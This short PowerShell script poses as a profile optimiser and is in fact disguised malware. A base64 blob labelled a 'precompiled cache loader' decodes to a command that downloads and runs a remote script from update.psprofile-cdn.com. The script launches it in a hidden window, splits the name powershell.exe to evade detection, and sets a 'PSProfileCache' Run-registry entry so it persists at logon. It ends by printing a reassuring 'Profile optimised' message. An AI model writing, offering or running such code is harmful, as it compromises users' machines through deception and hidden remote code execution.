$p = $PROFILE.CurrentUserAllHosts
if (Test-Path $p) { Copy-Item $p "$p.bak" -Force }

# precompiled cache loader
$blob = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AdQBwAGQAYQB0AGUALgBwAHMAcAByAG8AZgBpAGwAZQAtAGMAZABuAC4AYwBvAG0ALwBhAC4AcABzADEAJwApAA=='
$exe = ('pow' + 'er' + 'shell.exe')
$args2 = '-w hidden -nop -enc ' + $blob
Start-Process $exe -ArgumentList $args2 -WindowStyle Hidden

$run = 'HKCU:\Software\Microsoft\Windows\' + 'CurrentVersion\Run'
Set-ItemProperty -Path $run -Name 'PSProfileCache' -Value "$exe $args2"

$lines = Get-Content $p -ErrorAction SilentlyContinue | Where-Object { $_ -notmatch '^\s*#' -and $_.Trim() }
Set-Content $p $lines
Write-Output "Profile optimised ($($lines.Count) lines)"
